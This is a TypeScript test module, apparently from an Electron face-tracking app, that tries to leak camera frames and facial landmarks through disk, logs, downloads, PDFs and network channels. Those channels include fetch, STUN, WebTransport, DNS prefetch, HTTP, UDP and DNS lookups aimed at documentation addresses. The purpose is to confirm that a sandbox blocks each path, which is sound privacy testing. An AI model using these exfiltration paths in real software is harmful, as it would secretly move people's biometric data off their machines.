import type { WebContents } from 'electron'
import { appendFileSync, closeSync, fsyncSync, openSync, unlinkSync, writeFileSync, writeSync } from 'node:fs'
import { createSocket } from 'node:dgram'
import { Resolver } from 'node:dns'
import { get } from 'node:http'
import { join } from 'node:path'
import type { Devtools } from './devtools'
import { leakDirectory } from './fallenWalls'
import type { LandmarkTap } from './landmarkTap'
import type { LeakKind } from './leakKinds'

export interface LeakParts {
  readonly contents: WebContents
  readonly devtools: Devtools
  readonly tap: LandmarkTap
}

/** Addresses and names for documentation, which nobody has (RFC 5737, RFC 2606): one for each way out. */
const OUTSIDE = {
  fetch: '192.0.2.7',
  stun: '192.0.2.8',
  webTransport: '192.0.2.9',
  http: '192.0.2.10',
  udp: '192.0.2.11',
  nameServer: '192.0.2.12',
} as const
/** Not the variable of the environment: that may lead to memory. */
const TEMPORARY = '/tmp'
const OUTSIDE_NAME = 'kazari-proof.example'

/** The picture of the camera as it is now, in the page. */
const FRAME = `const frame = async () => {
  const video = document.querySelector('video')
  if (!video || video.videoWidth === 0) throw new Error('no camera picture to leak')
  const canvas = new OffscreenCanvas(video.videoWidth, video.videoHeight)
  canvas.getContext('2d').drawImage(video, 0, 0)
  return canvas
}`

/** Breaks the guarantee in one way; gives what it did, for the report. */
export async function leak(kind: LeakKind, parts: LeakParts): Promise<unknown> {
  try {
    return { attempted: kind, ...(await attempts[kind](parts)) }
  } catch (error) {
    // Under the launcher this is what should happen.
    return { attempted: kind, stopped: error instanceof Error ? error.message : String(error) }
  }
}

const attempts: Readonly<Record<LeakKind, (parts: LeakParts) => Promise<object>>> = {
  'landmarks-in-local-storage': async ({ devtools, tap }) => {
    const points = await lastPoints(tap)
    await devtools.evaluate(`localStorage.setItem('face', ${JSON.stringify(JSON.stringify(points))})`)
    // Chromium commits local storage some seconds later.
    await pause(6_000)
    return { points }
  },
  'frame-in-indexed-db': async ({ devtools }) => ({
    bytes: await devtools.evaluate(`(async () => {
      ${FRAME}
      const blob = await (await frame()).convertToBlob({ type: 'image/jpeg', quality: 0.95 })
      const open = indexedDB.open('leak', 1)
      open.onupgradeneeded = () => open.result.createObjectStore('frames')
      await new Promise((done, failed) => { open.onsuccess = done; open.onerror = () => failed(open.error) })
      const write = open.result.transaction('frames', 'readwrite', { durability: 'strict' })
      write.objectStore('frames').put(blob, 1)
      await new Promise((done, failed) => { write.oncomplete = done; write.onabort = () => failed(write.error) })
      return blob.size
    })()`),
  }),
  'page-download': async ({ devtools }) => {
    const bytes = await devtools.evaluate(`(async () => {
      ${FRAME}
      const blob = await (await frame()).convertToBlob({ type: 'image/jpeg', quality: 0.95 })
      const link = document.createElement('a')
      link.href = URL.createObjectURL(blob)
      link.download = 'face.jpg'
      document.body.append(link)
      link.click()
      return blob.size
    })()`)
    await pause(2_000)
    return { bytes }
  },
  'jpeg-written-and-unlinked': async ({ devtools }) => {
    const bytes = await frameBytes(devtools, 'image/jpeg')
    const path = join(TEMPORARY, 'frame.jpg')
    const file = openSync(path, 'w')
    writeSync(file, bytes)
    fsyncSync(file)
    closeSync(file)
    unlinkSync(path)
    return { bytes: bytes.length, path }
  },
  'raw-frame-in-cache-file': async ({ devtools }) => {
    const bytes = await frameBytes(devtools, 'raw')
    const path = join(leakDirectory(), 'frames.cache')
    appendFileSync(path, bytes)
    return { bytes: bytes.length, path }
  },
  'landmarks-in-log': async ({ tap }) => {
    const points = await lastPoints(tap)
    const path = join(leakDirectory(), 'debug.log')
    appendFileSync(path, `${JSON.stringify({ level: 'debug', landmarks: points })}\n`)
    return { points, path }
  },
  'landmarks-on-console': async ({ contents, devtools, tap }) => {
    const points = await lastPoints(tap)
    const path = join(leakDirectory(), 'page-console.log')
    // What a page prints, as many a program keeps it: the older event has the words third, the newer in the first.
    const written = new Promise<void>((resolve) => {
      contents.once('console-message', (event: object, _level: unknown, words?: unknown) => {
        appendFileSync(path, `${String(words ?? (event as { message?: unknown }).message)}\n`)
        resolve()
      })
    })
    await devtools.evaluate(`console.warn(${JSON.stringify(JSON.stringify(points))})`)
    await written
    return { points, path }
  },
  'pdf-in-temporary-directory': async ({ contents }) => {
    const pdf = await contents.printToPDF({ printBackground: true })
    const path = join(TEMPORARY, 'print-job.pdf')
    writeFileSync(path, pdf)
    return { bytes: pdf.length, path }
  },

  fetch: ({ devtools }) => inPage(devtools, `fetch('http://${OUTSIDE.fetch}/').catch(String)`),
  stun: ({ devtools }) =>
    inPage(
      devtools,
      `(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${OUTSIDE.stun}:3478' }] })
        peer.createDataChannel('x')
        await peer.setLocalDescription(await peer.createOffer())
      })()`,
    ),
  'web-transport': ({ devtools }) =>
    inPage(devtools, `new WebTransport('https://${OUTSIDE.webTransport}:4433/').ready.catch(String)`),
  'dns-prefetch': ({ devtools }) =>
    inPage(
      devtools,
      `(() => {
        for (const rel of ['dns-prefetch', 'preconnect']) {
          const link = document.createElement('link')
          link.rel = rel
          link.href = 'https://' + rel + '.${OUTSIDE_NAME}/'
          document.head.append(link)
        }
      })()`,
    ),
  'node-http': () =>
    new Promise((resolve) => {
      const request = get(`http://${OUTSIDE.http}/`)
      request.on('error', (error) => resolve({ error: error.message }))
      setTimeout(() => (request.destroy(), resolve({ error: 'no answer' })), 1_500)
    }),
  'node-udp': () =>
    new Promise((resolve) => {
      const socket = createSocket('udp4')
      socket.on('error', (error) => resolve({ error: error.message }))
      socket.send('face', 5005, OUTSIDE.udp, (error) => {
        socket.close()
        resolve({ error: error?.message ?? null })
      })
    }),
  'node-lookup': () =>
    new Promise((resolve) => {
      const resolver = new Resolver({ timeout: 1_000, tries: 1 })
      resolver.setServers([OUTSIDE.nameServer])
      resolver.resolve4(OUTSIDE_NAME, (error) => resolve({ error: error?.code ?? null }))
    }),
}

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

/** Runs a snippet in the page, and gives it time to reach the system. */
async function inPage(devtools: Devtools, expression: string): Promise<object> {
  const outcome = await Promise.race([devtools.evaluate(expression).catch(String), pause(3_000)])
  await pause(1_000)
  return { outcome: outcome ?? null }
}

async function lastPoints(tap: LandmarkTap): Promise<readonly number[]> {
  const points = (await tap.read()).at(-1)?.faces[0]?.points
  if (!points) throw new Error('no landmarks to leak')
  return points
}

async function frameBytes(devtools: Devtools, type: 'image/jpeg' | 'raw'): Promise<Buffer> {
  const base64 = await devtools.evaluate(`(async () => {
    ${FRAME}
    const canvas = await frame()
    const blob = ${JSON.stringify(type)} === 'raw'
      ? new Blob([canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data])
      : await canvas.convertToBlob({ type: 'image/jpeg', quality: 0.95 })
    const bytes = new Uint8Array(await blob.arrayBuffer())
    let text = ''
    for (let at = 0; at < bytes.length; at += 32768) text += String.fromCharCode(...bytes.subarray(at, at + 32768))
    return btoa(text)
  })()`)
  return Buffer.from(String(base64), 'base64')
}
